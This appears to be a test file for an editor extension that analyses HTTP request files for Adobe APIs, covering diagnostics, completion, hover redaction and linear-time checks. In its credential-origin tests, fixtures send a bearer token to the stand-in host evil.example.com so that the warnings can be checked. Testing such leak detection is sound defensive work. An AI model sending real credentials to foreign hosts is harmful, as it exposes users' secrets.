/** Issue #21: what the editor shows while a request file is written (core/requests/analysis.ts): squiggles and `{{` completion. */
import * as assert from 'node:assert/strict';
import { parseRequestFile } from '../../../src/core/requests/parse';
import { AdobeEndpointName, resolveRequest } from '../../../src/core/requests/resolve';
import {
	BUILTIN_SIGNATURES,
	AnalysisContext,
	analyzeRequestFile,
	credentialOriginFinding,
	credentialTarget,
	HoverContext,
	MAX_HOVER_VALUE_CHARS,
	variableCompletions,
	variableHover,
	variablesCarrying,
} from '../../../src/core/requests/analysis';
import { isLoopbackHost } from '../../../src/core/common/endpoints';
import { assertLinear } from '../linear';
import { REDACTED, Redactor } from '../../../src/core/common/redact';

const ENDPOINTS: Record<AdobeEndpointName, string> = {
	ims: 'https://ims-na1.adobelogin.com',
	photoshop: 'https://image.adobe.io',
	cloudStorage: 'https://cloudstorage.adobe.io/v1',
	firefly: 'https://firefly-api.adobe.io',
	photoshopV2: 'https://photoshop-api.adobe.io',
};

function analyze(text: string, context: AnalysisContext = {}) {
	const file = parseRequestFile(text);
	return analyzeRequestFile(text.split(/\r\n|\r|\n/), file, context);
}

/** The findings as "line:code:message" strings, for readable assertions. */
function codes(text: string, context: AnalysisContext = {}) {
	return analyze(text, context).map((f) => `${f.line + 1}:${f.code}`);
}

describe('request files: analysis for the editor (squiggles)', () => {
	it('finds nothing in a file whose variables are all defined: file, environment, prompt, request and built-in', () => {
		const text = [
			'@base = {{$adobeEndpoint photoshop}}',
			'@name = Strunk & White',
			'',
			'# @name login',
			'POST {{base}}/login',
			'Authorization: Bearer {{$adobeToken}}',
			'x-api-key: {{$adobeClientId}}',
			'',
			'{"when": "{{$datetime iso8601}}", "id": "{{$guid}}", "n": {{$randomInt 1 9}}, "t": {{$timestamp -1 d}}}',
			'',
			'###',
			'# @prompt username Your Adobe ID',
			'GET {{host}}/authors/{{%name}}?user={{username}}',
			'Location: {{login.response.headers.Location}}',
			'x-job: {{login.response.body.$.jobId}}',
			'x-secret: {{$processEnv %secretKey}}',
			'x-dot: {{$dotenv API_KEY}}',
		].join('\n');
		assert.deepEqual(codes(text, { environment: { host: 'https://example.com', secretKey: 'NAME' }, environmentName: 'dev' }), []);
	});

	it('marks an unknown variable where it is written, naming where it was looked for', () => {
		const text = 'GET https://example.com/{{missing}}\nx-a: {{alsoMissing}}';
		const findings = analyze(text, { environment: {}, environmentName: 'dev' });
		assert.deepEqual(
			findings.map((f) => [f.line, f.start, f.end, f.severity, f.code]),
			[
				[0, 24, 35, 'error', 'unknown-variable'],
				[1, 5, 20, 'error', 'unknown-variable'],
			],
		);
		assert.match(findings[0].message, /\{\{missing\}\} is not defined: not a file variable .*not in environment "dev"/);
		assert.match(analyze(text)[0].message, /no environment is selected/);
	});

	it('knows an environment variable only in the selected environment (with $shared merged under it)', () => {
		const text = 'GET https://{{host}}/a';
		assert.deepEqual(codes(text, { environment: { host: 'x' }, environmentName: 'dev' }), []);
		assert.deepEqual(codes(text, { environment: {}, environmentName: 'prod' }), ['1:unknown-variable']);
	});

	it('knows a prompt variable only in the request it precedes', () => {
		const text = '# @prompt otp\nGET https://example.com/{{otp}}\n\n###\nGET https://example.com/{{otp}}';
		assert.deepEqual(codes(text), ['5:unknown-variable']);
	});

	it('marks an unknown built-in, and names the REST Client ones that are not supported', () => {
		const findings = analyze(
			'GET https://example.com\nx-a: {{$nope}}\nx-b: {{$aadToken}}\nx-c: {{$shared host}}\nx-d: {{$adobeEndpoint nowhere}}',
		);
		assert.deepEqual(
			findings.map((f) => f.code),
			['unknown-builtin', 'unknown-builtin', 'unknown-builtin', 'unknown-builtin'],
		);
		assert.match(findings[0].message, /\$nope.*Use \$adobeToken, \$adobeClientId/);
		assert.match(findings[1].message, /Azure Active Directory token is not supported/);
		assert.match(findings[2].message, /inside the values of rest-client\.environmentVariables/);
		assert.match(findings[3].message, /needs one of ims, photoshop/);
	});

	it('refuses a credential or a sensitive built-in in the URL, directly or through file variables', () => {
		const text = [
			'@tok = {{$adobeToken}}',
			'@wrapped = x{{tok}}',
			'@secret = {{$processEnv HOME}}',
			'GET https://example.com/?a={{$adobeClientId}}',
			'  &b={{wrapped}}',
			'  &c={{secret}}',
			'  &d={{$dotenv KEY}}',
			'Authorization: Bearer {{wrapped}}',
		].join('\n');
		assert.deepEqual(codes(text), ['4:credential-in-url', '5:credential-in-url', '6:credential-in-url', '7:credential-in-url']);
	});

	it('follows chains of file variables to find what carries a credential, in one pass', () => {
		const file = parseRequestFile(
			'@a = {{b}}\n@b = {{c}}\n@c = {{$adobeToken}}\n@d = {{a}}{{e}}\n@e = plain\n@loop1 = {{loop2}}\n@loop2 = {{loop1}}',
		);
		assert.deepEqual([...variablesCarrying(file, ['credential'])].sort(), ['a', 'b', 'c', 'd']);
	});

	it('tells a request variable of a request not sent yet (information), and a malformed one (error)', () => {
		const text =
			'# @name login\nGET https://example.com\n\n###\nGET https://example.com/{{login.response.body.$.id}}\nx-a: {{login.answer.body}}';
		const sent = new Set<string>();
		const context = { sent: (name: string) => sent.has(name) };
		const findings = analyze(text, context);
		assert.deepEqual(
			findings.map((f) => [f.line + 1, f.severity, f.code]),
			[
				[5, 'information', 'request-not-sent'],
				[6, 'error', 'request-variable-shape'],
			],
		);
		assert.match(findings[0].message, /"login" has not been sent/);
		sent.add('login');
		assert.deepEqual(codes(text, context), ['6:request-variable-shape']);
		// No request of that name at all: unknown.
		assert.match(analyze('GET https://example.com/{{logon.response.body.$.id}}')[0].message, /no request in this file is named "logon"/);
	});

	it('keeps the parse problems (per block) and the redefined variables, one finding each, without a "Line N:" prefix', () => {
		const text =
			'@v = 1\n@v = 2\nGET https://example.com/{{v}}\nnot a header\n\n###\nGET https://example.com/a b\n\n###\nGET https://example.com/{{v}}';
		const findings = analyze(text);
		assert.deepEqual(
			findings.map((f) => `${f.line + 1}:${f.severity}:${f.code}`),
			['1:warning:redefined-variable', '2:warning:redefined-variable', '4:error:parse-problem', '7:error:parse-problem'],
		);
		assert.equal(findings[0].otherLine, 1);
		for (const finding of findings) assert.doesNotMatch(finding.message, /^Line \d+/);
	});

	it('warns on a "#" or "//" line inside a body, which REST Client would leave out and this extension sends', () => {
		const text = 'POST https://example.com/notes\nContent-Type: text/plain\n\n# Heading\nbody text\n  // indented\n';
		const findings = analyze(text).filter((f) => f.code === 'body-comment-line');
		assert.deepEqual(
			findings.map((f) => `${f.line + 1}:${f.severity}`),
			['4:warning', '6:warning'],
		);
		assert.match(findings[0].message, /sent as part of the body\. REST Client would leave it out/);
		assert.deepEqual(codes('# a comment above\nGET https://example.com\n# between headers\nAccept: */*'), []);
	});

	it('quotes no value: neither an environment value nor a file variable value appears in a message', () => {
		const secret = 'hunter2-environment-value';
		const text = '@tok = {{$adobeToken}}\nGET https://example.com/{{tok}}/{{nope}}/{{$nope}}';
		for (const finding of analyze(text, { environment: { other: secret }, environmentName: 'dev' })) {
			assert.ok(!finding.message.includes(secret));
		}
	});

	it('lists only built-ins that resolve.ts knows', async () => {
		for (const builtin of BUILTIN_SIGNATURES) {
			const args =
				builtin.name === '$adobeEndpoint'
					? ' photoshop'
					: builtin.name === '$randomInt'
						? ' 1 5'
						: builtin.args.includes('NAME')
							? ' HOME'
							: '';
			const file = parseRequestFile(`GET https://example.com\nx-a: {{${builtin.name}${args}}}`);
			const failure = await resolveRequest(
				file,
				file.requests[0],
				{ token: async () => 'token-value', clientId: async () => 'client', endpoint: (name) => ENDPOINTS[name] },
				async () => undefined,
			).then(
				() => undefined,
				(error: Error) => error.message,
			);
			assert.doesNotMatch(failure ?? '', /is not a built-in variable/, `${builtin.name}: ${failure}`);
		}
	});
});

describe('request files: where a credential would go (analysis)', () => {
	const lines = (text: string) => text.split('\n');

	it('finds the target of a request that carries a credential, without asking for it', async () => {
		const text =
			'@host = https://evil.example.com\nGET {{host}}/a\nAuthorization: Bearer {{$adobeToken}}\n\n###\nGET https://evil.example.com/b';
		const file = parseRequestFile(text);
		const target = await credentialTarget(file, file.requests[0], (name) => ENDPOINTS[name]);
		assert.equal(target?.href, 'https://evil.example.com/a');
		// No credential: no target (nothing to warn about).
		assert.equal(await credentialTarget(file, file.requests[1], (name) => ENDPOINTS[name]), undefined);
	});

	it('warns when the host is not Adobe, a configured endpoint or approved; errors over plain http to another machine', async () => {
		const text = 'GET https://evil.example.com/a\nAuthorization: Bearer {{$adobeToken}}';
		const file = parseRequestFile(text);
		const request = file.requests[0];
		const warning = credentialOriginFinding(lines(text), request, new URL('https://evil.example.com/a'), ENDPOINTS, [], isLoopbackHost);
		assert.equal(warning?.severity, 'warning');
		assert.equal(warning?.code, 'credential-origin');
		assert.deepEqual([warning?.line, warning?.start, warning?.end], [0, 4, 30]);
		assert.match(warning?.message ?? '', /evil\.example\.com, which is not an Adobe host .*Send asks you/);
		assert.equal(
			credentialOriginFinding(
				lines(text),
				request,
				new URL('https://evil.example.com/a'),
				ENDPOINTS,
				['https://evil.example.com'],
				isLoopbackHost,
			),
			undefined,
		);
		assert.equal(
			credentialOriginFinding(lines(text), request, new URL('https://image.adobe.io/a'), ENDPOINTS, [], isLoopbackHost),
			undefined,
		);
		const plain = credentialOriginFinding(lines(text), request, new URL('http://evil.example.com/a'), ENDPOINTS, [], isLoopbackHost);
		assert.equal(plain?.severity, 'error');
		assert.match(plain?.message ?? '', /plain http .*Send refuses it/);
		// This machine over http: asked, not refused.
		assert.equal(
			credentialOriginFinding(lines(text), request, new URL('http://127.0.0.1:9/a'), ENDPOINTS, [], isLoopbackHost)?.severity,
			'warning',
		);
	});
});

describe('request files: {{ completion (analysis)', () => {
	const text = [
		'@base = https://example.com',
		'@base = https://example.org',
		'# @name login',
		'POST {{base}}/login',
		'',
		'###',
		'# @prompt otp One-time code',
		'GET {{',
	].join('\n');
	const file = parseRequestFile(text);

	it('offers nothing outside an open {{', () => {
		assert.equal(variableCompletions('GET https://x/', 14, file, 7), undefined);
		assert.equal(variableCompletions('GET {{a}} x', 11, file, 7), undefined);
	});

	it('offers the prompt, file and environment variables, the request names and the built-ins with their arguments, closing the braces', () => {
		const result = variableCompletions('GET {{', 6, file, 7, { environment: { host: 'h' }, environmentName: 'dev' });
		assert.equal(result?.start, 6);
		const labels = result!.items.map((i) => `${i.kind}:${i.label}`);
		assert.deepEqual(labels.slice(0, 4), ['prompt:otp', 'variable:base', 'environment:host', 'request:login.response.body.$']);
		assert.ok(labels.includes('builtin:$adobeEndpoint'), labels.join(', '));
		const datetime = result!.items.find((i) => i.label === '$datetime');
		assert.equal(datetime?.labelDetail, 'rfc1123|iso8601|"format" [offset unit]');
		assert.equal(result!.items.find((i) => i.label === '$guid')?.labelDetail, undefined);
		const base = result!.items.find((i) => i.label === 'base');
		assert.equal(base?.insert, 'base}}');
		assert.equal(base?.detail, 'file variable, line 2');
		const endpoint = result!.items.find((i) => i.label.startsWith('$adobeEndpoint'));
		assert.equal(endpoint?.insert, '\\$adobeEndpoint ${1|ims,photoshop,cloudStorage,firefly,photoshopV2|}}}');
		// Braces already closed after the cursor: not doubled.
		assert.equal(variableCompletions('GET {{}}', 6, file, 7)?.items.find((i) => i.label === 'base')?.insert, 'base');
	});

	it('completes a request variable path, with header names and top-level keys of the last answer', () => {
		const exchange = {
			response: {
				headers: { location: 'https://example.com/x', 'content-type': 'application/json' },
				body: '{"jobId":"j1","status":"running","bad key":1}',
			},
		};
		const context = { exchange: (name: string) => (name === 'login' ? exchange : undefined) };
		const at = (typed: string) => variableCompletions(`GET {{${typed}`, 6 + typed.length, file, 7, context)?.items.map((i) => i.label);
		assert.deepEqual(at('login.'), [
			'login.response.body.$',
			'login.response.body.*',
			'login.response.headers.',
			'login.request.body.$',
			'login.request.headers.',
		]);
		assert.deepEqual(at('login.response.'), ['login.response.body.$', 'login.response.body.*', 'login.response.headers.']);
		assert.deepEqual(at('login.response.headers.'), ['login.response.headers.location', 'login.response.headers.content-type']);
		assert.deepEqual(at('login.response.body.$.'), ['login.response.body.$.jobId', 'login.response.body.$.status']);
		assert.deepEqual(at('nobody.'), []);
	});
});

describe('request files: analysis for the editor (hover over {{variables}})', () => {
	const redactor = new Redactor();
	const redact = (text: string) => redactor.redact(text);
	/** The hover over the first `{{` of `needle` on the line that holds it. */
	function hoverAt(text: string, needle: string, context: HoverContext = {}) {
		const lines = text.split('\n');
		const line = lines.findIndex((l) => l.includes(needle));
		assert.ok(line >= 0, needle);
		return variableHover(lines, parseRequestFile(text), line, lines[line].indexOf(needle) + 2, context, redact);
	}
	const FILE = [
		'@base = https://example.com/v1',
		'@auth = Bearer {{$adobeToken}}',
		'',
		'# @name login',
		'POST {{base}}/login',
		'',
		'###',
		'# @prompt otp Your code',
		'GET {{host}}/items/{{%base}}?otp={{otp}}',
		'Authorization: {{auth}}',
		'x-id: {{login.response.body.$.id}}',
		'x-key: {{apiKey}}',
		'x-when: {{$datetime iso8601 1 d}}',
		'x-token: {{$adobeToken}}',
		'x-client: {{$adobeClientId}}',
		'x-home: {{$processEnv HOME}}',
		'x-dot: {{$dotenv API_KEY}}',
		'x-missing: {{missing}}',
		'x-bad: {{$nope}}',
		'',
	].join('\n');
	const ENV: HoverContext = {
		environment: { host: 'https://dev.example.com', apiKey: 'k-123456789', mode: 'shared' },
		environmentName: 'dev',
		selectedDefines: (name) => name === 'host' || name === 'apiKey',
		sent: (name) => name === 'login',
	};

	it('names a file variable and its line, with its value as written; {{%name}} says it is percent-encoded', () => {
		const hover = hoverAt(FILE, '{{base}}', ENV);
		assert.deepEqual(hover, {
			line: 4,
			start: 5,
			end: 13,
			reference: '{{base}}',
			source: 'file variable, line 1',
			value: 'https://example.com/v1',
		});
		assert.equal(hoverAt(FILE, '{{%base}}', ENV)?.source, 'file variable, line 1 (percent-encoded when sent)');
		// A file variable holding a credential shows the reference it holds, never a token.
		assert.equal(hoverAt(FILE, '{{auth}}', ENV)?.value, 'Bearer {{$adobeToken}}');
	});

	it('names the environment or $shared; shows a value only when the name does not say it is a credential', () => {
		assert.deepEqual(
			[hoverAt(FILE, '{{host}}', ENV)?.source, hoverAt(FILE, '{{host}}', ENV)?.value],
			['environment "dev"', 'https://dev.example.com'],
		);
		const shared = hoverAt('GET https://x/{{mode}}', '{{mode}}', ENV);
		assert.deepEqual([shared?.source, shared?.value], ['environment $shared (under "dev")', 'shared']);
		const none = hoverAt('GET https://x/{{mode}}', '{{mode}}', { environment: { mode: 'shared' } });
		assert.equal(none?.source, 'environment $shared (no environment is selected)');
		const key = hoverAt(FILE, '{{apiKey}}', ENV);
		assert.deepEqual([key?.source, key?.value, key?.hidden], ['environment "dev"', undefined, 'its name says it holds a credential']);
		for (const name of ['password', 'clientSecret', 'accessToken', 'client_id', 'sessionCookie']) {
			const hidden = hoverAt(`GET https://x\nx-a: {{${name}}}`, `{{${name}}}`, { environment: { [name]: 'plain-looking-value' } });
			assert.equal(hidden?.value, undefined, name);
			assert.ok(!JSON.stringify(hidden).includes('plain-looking-value'), name);
		}
	});

	it('names a request variable and whether its request was sent in this window, never its value', () => {
		const sent = hoverAt(FILE, '{{login.', ENV);
		assert.equal(sent?.source, 'request variable: the answer of the request "login" (line 5), sent in this window');
		assert.equal(sent?.value, undefined);
		assert.match(sent?.hidden ?? '', /read from the last answer when the request is sent/);
		assert.equal(hoverAt(FILE, '{{login.', { ...ENV, sent: () => false })?.source?.endsWith(', not sent yet in this window'), true);
		assert.match(
			hoverAt('# @name a\nGET https://x\n\n###\nGET https://x/{{a.body}}', '{{a.', ENV)?.problem ?? '',
			/is not a request variable/,
		);
	});

	it('names a prompt, hiding its answer', () => {
		const hover = hoverAt(FILE, '{{otp}}', ENV);
		assert.equal(hover?.source, 'prompt variable (# @prompt otp, line 8), asked when the request is sent');
		assert.equal(hover?.value, undefined);
		assert.match(hover?.hidden ?? '', /answered when the request is sent/);
	});

	it('describes a built-in and its arguments, and never shows a credential, $processEnv or $dotenv', () => {
		const datetime = hoverAt(FILE, '{{$datetime', ENV);
		assert.equal(datetime?.source, 'built-in variable $datetime rfc1123|iso8601|"format" [offset unit]');
		assert.match(datetime?.description ?? '', /The date and time in UTC/);
		assert.equal(datetime?.value, undefined);
		for (const needle of ['{{$adobeToken}}', '{{$adobeClientId}}', '{{$processEnv', '{{$dotenv']) {
			const hover = hoverAt(FILE, needle, ENV);
			assert.equal(hover?.value, undefined, needle);
			assert.match(hover?.hidden ?? '', /never shown|read only when the request is sent/, needle);
			assert.match(hover?.source ?? '', /^built-in variable \$/, needle);
		}
		assert.match(hoverAt(FILE, '{{$nope}}', ENV)?.problem ?? '', /\{\{\$nope\}\} is not a built-in variable this extension knows/);
	});

	it("gives an unknown variable the squiggle's message, and nothing outside a {{…}}, on a comment or past the braces", () => {
		const hover = hoverAt(FILE, '{{missing}}', ENV);
		const squiggle = analyzeRequestFile(FILE.split('\n'), parseRequestFile(FILE), ENV).find((f) => f.code === 'unknown-variable');
		assert.equal(hover?.problem, squiggle?.message);
		assert.equal(hover?.source, undefined);
		const lines = FILE.split('\n');
		assert.equal(variableHover(lines, parseRequestFile(FILE), 4, 2, ENV, redact), undefined, 'on the method');
		assert.equal(variableHover(lines, parseRequestFile(FILE), 4, 13, ENV, redact), undefined, 'just past }}');
		assert.equal(hoverAt('# see {{base}}\nGET https://x', '{{base}}', ENV), undefined, 'in a comment');
	});

	it('redacts a value before it is cut, and cuts a long one with an ellipsis', () => {
		const jwt = `eyJhbGciOiJSUzI1NiJ9.${'eyJzdWIiOiJ4In0'.repeat(3)}.${'c2lnbmF0dXJl'.repeat(4)}`;
		const secretLooking = hoverAt(`@note = hello ${jwt}\nGET https://x\nx-a: {{note}}`, '{{note}}');
		assert.equal(secretLooking?.value, `hello ${REDACTED}`);
		const env = hoverAt('GET https://x\nx-a: {{header}}', '{{header}}', { environment: { header: `Bearer ${jwt}` } });
		assert.equal(env?.value, `Bearer ${REDACTED}`);
		// A JWT that straddles the cut: redacted whole first, so no part of it is shown.
		const straddling = hoverAt(`@long = ${'a'.repeat(MAX_HOVER_VALUE_CHARS - 10)} ${jwt}\nGET https://x/{{long}}`, '{{long}}');
		assert.ok(!straddling?.value?.includes('eyJ'), straddling?.value);
		const long = hoverAt(`@long = ${'x'.repeat(5000)}\nGET https://x/{{long}}`, '{{long}}');
		assert.equal(long?.value, `${'x'.repeat(MAX_HOVER_VALUE_CHARS)}…`);
	});
});

describe('request files: analysis stays linear in its input', function () {
	this.timeout(120_000);

	const analyze = (text: string) => analyzeRequestFile(text.split('\n'), parseRequestFile(text), { environment: { a: '1' } });

	/** A hover over the file's last line (its reference resolved through every variable and request before it). */
	function hoverLast(text: string): unknown {
		const lines = text.split('\n');
		const last = lines.length - 1;
		return variableHover(lines, parseRequestFile(text), last, lines[last].indexOf('{{') + 2, { environment: { a: '1' } }, (t) => t);
	}

	const CASES: Array<{ name: string; make: (n: number) => string; work?: (text: string) => unknown; sizeIsNotLength?: boolean }> = [
		{
			name: 'a chain of file variables, each using the next',
			sizeIsNotLength: true,
			make: (n) =>
				Array.from({ length: n / 20 }, (_, i) => `@v${i} = {{v${i + 1}}}`).join('\n') +
				`\n@v${n / 20} = {{$adobeToken}}\nGET https://x/{{v0}}`,
		},
		{ name: 'many unknown references on one line', make: (n) => `GET https://x/${'{{u}}'.repeat(n / 5)}` },
		{ name: 'many requests with bodies full of references', make: (n) => 'GET https://x\n\n{"a":"{{a}}{{$guid}}"}\n###\n'.repeat(n / 40) },
		{
			name: 'a hover over a file variable in a URL, after many variables and requests',
			make: (n) =>
				Array.from({ length: n / 40 }, (_, i) => `@v${i} = {{$adobeToken}}{{v${i + 1}}}`).join('\n') +
				'\n' +
				'# @name r\nGET https://x/{{a}}\n\n{"a":"{{a}}"}\n###\n'.repeat(n / 80) +
				`GET https://x/{{v0}}`,
			work: hoverLast,
		},
	];

	for (const { name, make, work, sizeIsNotLength } of CASES) {
		it(`doubling the input about doubles the time: ${name}`, async () => {
			await assertLinear(name, make, work ?? analyze, 16_000, { maxLargeMs: 1000, sizeIsNotLength });
		});
	}
});
